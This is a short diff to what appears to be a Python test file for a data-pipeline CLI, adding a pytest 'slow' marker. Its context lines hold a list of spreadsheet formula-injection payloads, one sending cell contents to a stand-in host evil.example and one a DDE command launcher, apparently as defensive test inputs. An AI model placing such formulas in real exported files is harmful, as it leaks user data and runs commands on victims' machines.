@@ -18,6 +18,8 @@ from typer.testing import CliRunner
 from pipelines.cli import app
 from pipelines.job import Job
 
+pytestmark = pytest.mark.slow
+
 FORMULAS = (
     '=HYPERLINK("https://evil.example/?x="&A1,"click")',
     "=cmd|' /C calc'!A0",
